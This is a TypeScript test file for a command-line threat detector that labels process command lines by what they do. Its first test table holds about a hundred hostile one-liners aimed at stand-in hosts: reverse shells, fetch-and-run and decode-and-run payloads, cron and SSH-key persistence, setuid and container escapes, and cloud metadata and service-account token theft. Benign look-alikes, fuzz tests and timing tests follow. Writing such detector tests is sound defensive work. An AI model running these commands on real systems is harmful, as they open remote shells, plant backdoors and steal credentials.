import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { shownIn } from '../../src/report/knowledge/shape.ts'
import { shapes } from '../../src/report/knowledge/shapes.ts'
import { problemsIn } from '../../src/report/verify.ts'
import { anEvent } from '../event.ts'
import { reportOn } from './material.ts'

const shown = (line: string) => shownIn(line, shapes).map(({ does }) => does)

describe('a command line is told by what it does', () => {
  test.each([
    ['bash -i >& /dev/tcp/198.51.100.9/4444 0>&1', 'opens a network connection from within the shell'],
    ['bash -c exec 5<>/dev/tcp/198.51.100.9/4444;cat <&5 | while read l; do $l 2>&5 >&5; done', 'from within the shell'],
    ['sh -c 0<&196;exec 196<>/dev/tcp/evil.example/4242; sh <&196 >&196 2>&196', 'from within the shell'],
    ['bash -c cat /etc/shadow > /dev/tcp/198.51.100.9/80', 'from within the shell'],
    ["python3 -c import os;os.system('bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')", 'from within the shell'],
    ['awk BEGIN{s="/inet/tcp/0/198.51.100.9/4444";while(1){print "> " |& s}}', 'from within awk'],
    ['sh -c gawk \'BEGIN{s="/inet/tcp/0/evil.example/4444"}\'', 'from within awk'],
    [
      'python3 -c import socket,os;s=socket.socket();s.connect(("198.51.100.9",4444));os.dup2(s.fileno(),0)',
      'joins a socket to standard input',
    ],
    ['perl -MIO -e use Socket;socket(S,PF_INET);open(STDIN,">&S");exec("/bin/sh -i");', 'in one line of code, as reverse shells do'],
    ['php -d x=1 -r $s=fsockopen("198.51.100.9",4444);exec("/bin/sh -i <&3");', 'in one line of code'],
    ['ruby -rsocket -e c=TCPSocket.new("198.51.100.9",4444);IO.popen(c.gets)', 'in one line of code'],
    ["sudo python3 -c 'import socket,subprocess;s=socket.socket();s.connect(y);subprocess.call(x,stdin=s)'", 'in one line of code'],
    ["python3 -c import pty;pty.spawn('/bin/bash')", 'starts a program on a terminal of its own making'],
    ['nc -e /bin/sh 198.51.100.9 4444', 'hands a program to a peer'],
    ['nc -lvp 4444 -e /usr/bin/zsh', 'hands a program to a peer'],
    ['busybox nc 198.51.100.9 4444 -e sh', 'hands a program to a peer'],
    ['/tmp/x 198.51.100.9 4444 -e /bin/sh', 'hands a program to a peer'],
    ['kworker -e /bin/bash evil.example 443', 'hands a program to a peer'],
    ['x --exec=/bin/sh 198.51.100.9 4444', 'hands a program to a peer'],
    ['socat TCP:198.51.100.9:4444 EXEC:/bin/bash,pty,stderr', 'hands a shell to whoever is at the other end'],
    ['/tmp/x OPENSSL:198.51.100.9:443 EXEC:/bin/sh', 'hands a shell to whoever is at the other end'],
    ['sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f', 'joins a shell to a network connection'],
    ['sh -c mknod /tmp/p p; nc 198.51.100.9 4444 0</tmp/p | /bin/bash 1>/tmp/p', 'joins a shell to a network connection'],
    ['sh -c mkfifo f; cat f|sh -i 2>&1|/tmp/x 198.51.100.9 4444 >f', 'joins a shell to a network connection'],
    [
      'sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:443 > /tmp/s',
      'joins a shell to a network connection',
    ],
    ['sh -c telnet 198.51.100.9 4444 | /bin/sh | telnet 198.51.100.9 4445', 'joins a shell to a network connection'],
    ['bash -c curl "https://198.51.100.9/x?a=1&b=2" | bash', 'runs what it fetches'],
    ['bash -c curl https://198.51.100.9/x?a=1&b=2 | bash', 'runs what it fetches'],
    ['bash -c bash <(curl -s http://198.51.100.9/x)', 'runs what it fetches'],
    ['bash -c source <(wget -qO- http://198.51.100.9/x)', 'runs what it fetches'],
    ['bash -c bash < <(curl -s http://198.51.100.9/x)', 'runs what it fetches'],
    ['bash -c bash <<< "$(curl -s http://198.51.100.9/x)"', 'runs what it fetches'],
    ['sh -c sh -c "$(curl -fsSL http://198.51.100.9/x)"', 'runs what it fetches'],
    ['sh -c eval `wget -qO- http://198.51.100.9/x`', 'runs what it fetches'],
    ['sh -c python3 -c "$(curl -fsSL http://198.51.100.9/x)"', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x|python3 -', 'runs what it fetches'],
    ['sh -c wget -qO- http://198.51.100.9/x | perl', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x | env bash', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x | sudo bash', 'runs what it fetches'],
    ['bash -c wget -O - http://x|sudo -u root -E bash -', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x | bash -s -- --yes', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x | tee /tmp/x | sh', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x.gz | gunzip | sh', 'runs what it fetches'],
    ['sh -c c\'\'url http://198.51.100.9/x|ba""sh', 'runs what it fetches'],
    ['sh -c (crontab -l; echo "* * * * * curl http://198.51.100.9/x|sh") | crontab -', 'runs what it fetches'],
    ['sh -c echo "*/5 * * * * curl http://198.51.100.9/x|sh" > /etc/cron.d/x', 'runs what it fetches'],
    ['docker exec web bash -c curl http://198.51.100.9/x | sh', 'runs what it fetches'],
    ['sh -c ssh web "curl http://198.51.100.9/x | sh"', 'runs what it fetches'],
    ["python3 -c import os;os.system('curl http://198.51.100.9/x | sh')", 'runs what it fetches'],
    ['sh -c proxychains -q /usr/bin/curl http://198.51.100.9/x | sh', 'runs what it fetches'],
    ['/tmp/echo -c curl http://198.51.100.9/x | sh', 'runs what it fetches'],
    ["sh -c curl http://198.51.100.9/it's | sh", 'runs what it fetches'],
    ['sh -c echo aWQ= | base64 -d | python3', 'decodes something and runs it'],
    ['sh -c echo aWQ= | base64 --decode | bash', 'decodes something and runs it'],
    ['sh -c eval $(echo Y3VybA== | base64 -d)', 'decodes something and runs it'],
    ['bash -c {echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}', 'decodes something and runs it'],
    ['sh -c echo 6964|xxd -r -p|sh', 'decodes something and runs it'],
    ['sh -c echo U2FsdGVk | openssl enc -d -base64 | sh', 'decodes something and runs it'],
    ['bash -c bash -c "$(base64 -d <<< aWQ=)"', 'decodes something and runs it'],
    ['python3 -c exec(__import__("base64").b64decode("aW1w"))', 'decodes something and runs it'],
    ['sh -c echo /tmp/x.so >> /etc/ld.so.preload', 'writes to /etc/ld.so.preload'],
    ['sh -c echo /tmp/x.so | tee -a /etc/ld.so.preload', 'writes to /etc/ld.so.preload'],
    ['sh -c ./kworker -o stratum+tcp://pool.example:3333', 'speaks Stratum'],
    ['kworker -o stratum2+tcp://pool.example:3333', 'speaks Stratum'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web', 'fetches the credentials of a role'],
    ['curl 169.254.170.2/v2/credentials/b4f0', 'fetches the credentials of a role'],
    ['curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=x', 'fetches the credentials of a role'],
    [
      'wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      'fetches the credentials of a role',
    ],
    ['sh -c curl http://198.51.100.9/x|sh #', 'runs what it fetches'],
    ['zsh -ic true # ; curl http://198.51.100.9/x|sh', 'runs what it fetches'],
    ['/tmp/x # 198.51.100.9 4444 -e /bin/sh', 'hands a program to a peer'],
    ['bash -c echo "a # b"; curl http://198.51.100.9/x|sh', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x|$0', 'runs what it fetches'],
    ['bash -c curl http://198.51.100.9/x|${SHELL}', 'runs what it fetches'],
    ["bash -c a=cu;b=rl;$a$b http://198.51.100.9/x|ba''sh", 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | tac | ksh93', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | awk 1 | sh', 'runs what it fetches'],
    ["sh -c curl http://198.51.100.9/x | awk '{print $0}' | sh", 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | grep . | sh', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | tar xO | sh', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | xargs -0 sh -c', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x | xargs -I{} sh -c {}', 'runs what it fetches'],
    ['sh -c curl http://198.51.100.9/x|while read l; do eval "$l"; done', 'runs each line that it fetches'],
    ['sh -c echo aaaa | base64 --d | sh', 'decodes something and runs it'],
    ['python3 -c import urllib.request as u;exec(u.urlopen("http://198.51.100.9/p").read())', 'runs what it fetches'],
    ['python3 -c import requests; r=requests.get("http://198.51.100.9/p").text; exec(r)', 'runs what it fetches'],
    ['perl -e use LWP::Simple;eval get("http://198.51.100.9/p")', 'runs what it fetches'],
    ['node -e require("http").get("http://198.51.100.9/x",r=>r.on("data",d=>eval(""+d)))', 'runs what it fetches'],
    ['sh -c curl -o /tmp/.x http://198.51.100.9/x; chmod +x /tmp/.x; /tmp/.x', 'fetches a file from the network and runs it'],
    ['sh -c cd /tmp && wget http://198.51.100.9/b.sh && chmod 777 b.sh && sh b.sh', 'fetches a file from the network and runs it'],
    ['sh -c curl http://198.51.100.9/x > /tmp/a; sh /tmp/a', 'fetches a file from the network and runs it'],
    ['sh -c curl -O "http://198.51.100.9/x.py?a=1"; python3 x.py', 'fetches a file from the network and runs it'],
    ['sh -c tftp -g -r x 198.51.100.9; chmod +x x; ./x', 'fetches a file from the network and runs it'],
    ['zsh -c zmodload zsh/net/tcp && ztcp 198.51.100.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY', 'from within the shell'],
    ['sh -c echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys', 'writes to authorized_keys'],
    ['sh -c echo AAAA | tee -a ~/.ssh/authorized_keys', 'writes to authorized_keys'],
    ["sh -c echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", 'writes to sudoers'],
    ['sh -c echo "x ALL=NOPASSWD: ALL" > /etc/sudoers.d/x', 'writes to sudoers'],
    ['sh -c cp /bin/bash /tmp/b; chmod u+s /tmp/b', 'lets everybody run a shell with the rights of its owner'],
    ['chmod 4755 /bin/bash', 'lets everybody run a shell with the rights of its owner'],
    ['chmod +s /usr/bin/dash', 'lets everybody run a shell with the rights of its owner'],
    ['chmod 777 /etc/shadow', 'lets everybody change a file that decides who may log in'],
    ['chmod o+w /etc/passwd', 'lets everybody change a file that decides who may log in'],
    ['docker -H unix:///var/run/docker.sock run -v /:/host --privileged alpine chroot /host sh', 'the whole file system of the host'],
    ['docker run --rm -it --privileged --volume=/:/mnt alpine', 'the whole file system of the host'],
    ['sh -c echo 1 > /tmp/c/x/notify_on_release && echo "$h/cmd" > /tmp/c/release_agent', 'writes to a file of cgroups'],
    ["sh -c echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern", 'has the kernel run a program of its choice'],
    ['curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/', 'fetches the credentials of a role'],
    ['sh -c curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'fetches the credentials of a role'],
    ['node -e n=require("net");k=new n.Socket();k.connect(4444,"198.51.100.9",()=>spawn("/bin/sh",[]))', 'in one line of code'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', "reads the token of the pod's service account"],
    [
      'sh -c curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes',
      "reads the token of the pod's service account",
    ],
  ])('%s', (line, does) => {
    expect(shown(line).join('; it ')).toContain(does)
  })
})

describe('what a house runs every day shows none of it', () => {
  test.each([
    // Servers and scripts whose own options look like an interpreter's.
    'ruby /usr/bin/puma -e production -b unix:///run/puma.socket',
    'python3 /app/manage.py -c /run/app.socket',
    'php artisan serve -c /run/php.socket',
    'node server.js -e socket exec',
    'python3 -m gunicorn -c /etc/socket.py app:exec',
    // Probes: of this machine, of another, and with code.
    'bash -c exec 3<>/dev/tcp/127.0.0.1/9000;echo -e "GET /health/ready HTTP/1.1" >&3;grep UP <&3',
    'bash -c : > /dev/tcp/127.0.0.1/9092',
    'sh -c echo > /dev/tcp/localhost/5432',
    'bash -c until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done',
    'timeout 1 bash -c cat < /dev/null > /dev/tcp/db.example/5432',
    'bash -c exec 3<>/dev/tcp/db/5432',
    'python3 -c import socket; socket.create_connection(("db",5432))',
    'python3 -c import socket,subprocess; socket.create_connection(("localhost",80)); subprocess.run(["true"])',
    'perl -e print socket',
    'php -r echo extension_loaded("sockets");',
    'nc -z db 5432',
    'nc -vez db 5432',
    'nc -l -p 80 -c /usr/lib/x',
    'sh -c echo ruok | nc localhost 2181 | grep imok',
    'sh -c openssl s_client -connect web:443 < /dev/null | openssl x509 -noout -dates',
    'ssh 198.51.100.9 -p 22 -e none bash',
    'xterm -display 10.0.0.1:0 -e /bin/sh',
    'docker run -e SHELL=/bin/bash -p 80 web',
    // A task's own description, and its figures.
    'curl http://169.254.170.2/v4/b4f0/stats',
    'curl -s http://169.254.170.2/v2/metadata',
    'curl http://169.254.170.2/v3/b4f0/task',
    // A socket's library without a connection, one that waits, and a database that is connected to.
    `python3 -c "import subprocess,socket; print(socket.gethostname()); subprocess.run(['ls'])"`,
    `python3 -c import socket; exec(open('/app/setup.py').read())`,
    `python3 -c import socket,os; s=socket.socket(); os.execvp('gunicorn',['gunicorn','app']) if s.connect_ex(('db',5432))==0 else exit(1)`,
    'ruby -rsocket -e TCPSocket.new("db",5432).close; exec "bundle exec puma"',
    'python3 -c import socket,os; socket.create_connection(("db",5432)).close(); os.system("sh /app/start.sh")',
    'python3 -c import sqlite3,subprocess; sqlite3.connect("/a.db"); subprocess.run(["sh", "/app/a.sh"])',
    // Statements for a server.
    'psql -h db.corp.example 5432 -c sh',
    'mysql app.example.com 3306 -e bash',
    // Comments.
    'sh -c true # note: > /dev/tcp/198.51.100.4/4',
    'sh -c true # curl http://198.51.100.9/x | sh',
    'bash -c (echo a) # and then "curl http://198.51.100.9/x | sh',
    // What is fetched is made into something else, looked at, kept, or a name alone.
    `sh -c curl -s https://example.com/a | awk '{print "kubectl delete pod " $1}' | sh`,
    'sh -c curl -s https://example.com/a | grep -c ok | sh',
    'sh -c curl -sf http://example.com/list | while read l; do echo $l; done',
    "sh -c curl -sf http://example.com/list | xargs -n1 sh -c 'echo $0'",
    'sh -c curl -o /tmp/a.sh https://example.com/a.sh; sha256sum -c a.sum; sh /tmp/a.sh',
    'sh -c curl -Lo /usr/local/bin/kubectl https://example.com/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version',
    'sh -c curl -L https://example.com/a.tgz | tar xz && cd a && sh ./configure',
    'sh -c curl -s -o /tmp/a.json https://example.com/a.json; python3 parse.py /tmp/a.json',
    'python3 -c import requests,subprocess; requests.get("https://example.com/ping"); subprocess.run(["ls"])',
    'node -e require("http").get("http://web/health",r=>process.exit(r.statusCode===200?0:1))',
    // Near to a foothold, and none.
    'zsh -c ztcp db 5432 && exit 0',
    'cat /root/.ssh/authorized_keys',
    'chmod 600 /root/.ssh/authorized_keys',
    'sh -c cat /etc/sudoers > /tmp/a',
    'visudo -cf /etc/sudoers',
    'chmod 755 /bin/bash',
    'chmod 4755 /usr/bin/sudo',
    'chmod 4750 /bin/bash',
    'chmod g+s /srv/share',
    'chmod 2775 /srv/bash',
    'sh -c cp /etc/a /tmp/b; chmod u+s /tmp/b',
    'chmod 640 /etc/shadow',
    'chmod 777 /srv/shadow',
    'docker run -v /:/rootfs:ro --privileged cadvisor',
    'docker run -v /:/host:ro,rslave --pid=host node-exporter',
    'docker run -v /srv:/srv --privileged app',
    'docker run -v /:/host backup',
    'cat /sys/fs/cgroup/memory/release_agent',
    'sh -c echo "hello world" > release_agent',
    'sh -c echo /var/crash/core.%e > /proc/sys/kernel/core_pattern',
    'cat /proc/sys/kernel/core_pattern',
    // Text about it.
    'grep -r /dev/tcp/10.0.0.1/80 /var/log',
    'grep stratum+tcp://pool.example /var/log/a',
    'echo curl https://get.docker.com | sh',
    'python3 -c "# install with curl https://example.com/x | sh"',
    'sh -c command -v curl | sh /srv/next.sh',
    'sh -c echo "curl https://get.docker.com | sh" >> README.md',
    "sh -c grep -r 'bash -i >& /dev/tcp/198.51.100.9/4444' /var/log | wc -l",
    "git commit -m docs: install with 'curl https://example.com | sh'",
    "sh -c grep '/etc/ld.so.preload' /var/log/audit.log",
    // What is fetched is looked at, kept or counted.
    'sh -c curl -s http://localhost/health | grep ok | sh -c true',
    'sh -c curl -sL https://example.com/a | sha256sum',
    'curl https://example.com/a.sh -o /tmp/a.sh',
    'sh -c curl -s https://example.com/a.json | python3 -m json.tool',
    'sh -c curl -s https://example.com/a.json | python3 -c "import json,sys; print(json.load(sys.stdin))"',
    "sh -c curl -s https://example.com/a | perl -pe 's/a/b/'",
    'sh -c curl -s https://example.com/a.json | node parse.js',
    'sh -c curl -s https://example.com/a.json | ruby -rjson -e "puts JSON.parse(STDIN.read)"',
    'sh -c curl -fsSL https://example.com/key.gpg | sudo gpg --dearmor -o /etc/apt/keyrings/x.gpg',
    'bash -c wget -qO- https://example.com/a.tgz | tar xz',
    'bash -c VERSION=$(curl -s https://example.com/version) bash /srv/deploy.sh',
    'bash -c bash /srv/deploy.sh $(curl -s https://example.com/version)',
    'bash -c bash /srv/deploy.sh <(curl -s https://example.com/list)',
    'bash -c [ "$(curl -s -o /dev/null -w %{http_code} http://web/)" = 200 ] && sh /srv/next.sh',
    'bash -c kubectl apply -f <(curl -s https://example.com/a.yaml)',
    'bash -c diff <(curl -s https://example.com/a) /srv/a.sh',
    'sh -c eval "$(ssh-agent -s)"',
    'sh -c echo $CERT | base64 -d > /etc/ssl/a.pem; sh /srv/start.sh',
    'sh -c base64 -d /tmp/x > /tmp/y; ls | shuf',
    'sh -c kubectl get secret a -o jsonpath={.data.a} | base64 -d | python3 -m json.tool',
    'sh -c xxd -p /dev/urandom | head -c 8',
    "awk -F/ '/inet/ {print $2}' /etc/hosts",
    'awk BEGIN{s="/inet/tcp/0/localhost/80"; print "x" |& s}',
    'socat TCP-LISTEN:80,fork TCP:web:80',
    'sh -c mkfifo /run/log; cat /run/log | logger',
    'sh -c sh /srv/backup.sh | nc backup.example 9000',
    'curl http://169.254.169.254/latest/meta-data/instance-id',
    'curl -s http://metadata.google.internal/computeMetadata/v1/instance/zone',
    'ls /var/run/secrets/kubernetes.io/serviceaccount',
    'cat /etc/ld.so.preload',
  ])('%s', (line) => {
    expect(shown(line)).toEqual([])
  })
})

test('the report shows the part that is meant, and says no more than that', () => {
  const line = 'sh -c cd /tmp; curl -s http://198.51.100.9/x | env bash'
  const { verdict, sections } = reportOn(anEvent({ fields: { 'proc.cmdline': line } }))
  expect(verdict.label).toBe('suspicious')
  expect(JSON.stringify(sections)).toContain('{"value":"curl -s http://198.51.100.9/x | env bash"}')
})

test.each(shapes.map(({ does }) => does))('"What the command line asks for %s" says it once', (does) => {
  expect(does).toMatch(/^[a-z]+s /)
  expect(does).not.toMatch(/^(?:asks|requests) /)
})

test('whatever stands in a command line, it is read', () => {
  const bits = fc.constantFrom(
    '$(',
    '<(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '|',
    ';',
    '&',
    '>',
    '{a,b}',
    'sh -c ',
    'curl x',
    '#',
    'a=b;',
    '$a',
    ' ',
    '\n',
    '/dev/tcp/a/1',
  )
  fc.assert(fc.property(fc.array(bits, { maxLength: 40 }), (pieces) => void shown(pieces.join(''))))
})

test('100 kB of anything takes linear time', () => {
  const bits = [
    '$(',
    '<(',
    '`',
    '"',
    "'",
    '\\"',
    '|',
    ';',
    '& ',
    'a&',
    'http://a&',
    '1',
    '1>',
    '>&1 ',
    '(',
    '{a,b} ',
    '"$(',
    '\'"',
    'sh -c ',
    'sh -c "',
    'curl x |',
    'curl x | sh ',
    '-e /bin/sh ',
    'socket ',
    'exec ',
    'python3 -c socket exec ',
    '127.',
    '/inet/tcp/0/',
    '/dev/tcp/',
    'sudo ',
    'A=b ',
    '198.51.100.9 ',
    'a.',
    'EXEC:',
    'EXEC:/a/',
    '/computeMetadata/v1/instance/service-accounts/',
    '#',
    ' #\n',
    '`#',
    'a=bbbbbbbbbbbb;$a',
    'curl x | awk 1 |',
    'curl -o a b; ',
    'curl -o a b; ./a; ',
    'curl x | while read l; do ',
    'python3 -c "a=c.gets popen(" ',
    'python3 -c "TCPSocket.new((" ',
    'python3 -c "x=urlopen(" ',
    'python3 -c "exec(" ',
    'cp /bin/sh a; chmod u+s b; ',
    '--mount=/',
  ]
  for (const bit of bits) {
    const [small = 0, large = 0] = [5_000, 100_000].map((size) => timed(`sh -c ${bit.repeat(size / bit.length)}`))
    // Quadratic time would be 400 times as long; a shared machine gets some slack.
    expect({ bit, linear: large < Math.max(500, 40 * small) }).toEqual({ bit, linear: true })
  }
})

function timed(text: string): number {
  const begin = performance.now()
  shown(text)
  return performance.now() - begin
}

test('what stood in quotes is shown as it was written, so that the evidence holds it', () => {
  for (const line of [
    `sh -c curl -s 'http://203.0.113.9/x' | env sh`,
    `bash -c bash -i >& "/dev/tcp/203.0.113.9/4444" 0>&1`,
    `sh -c c''url -s http://203.0.113.9/x|sh`,
    `sh -c echo 'x y' >> "/root/.ssh/authorized_keys"`,
  ]) {
    const report = reportOn(anEvent({ fields: { 'proc.cmdline': line } }))
    expect(report.verdict.label).toBe('suspicious')
    expect(problemsIn(report)).toEqual([])
  }
})
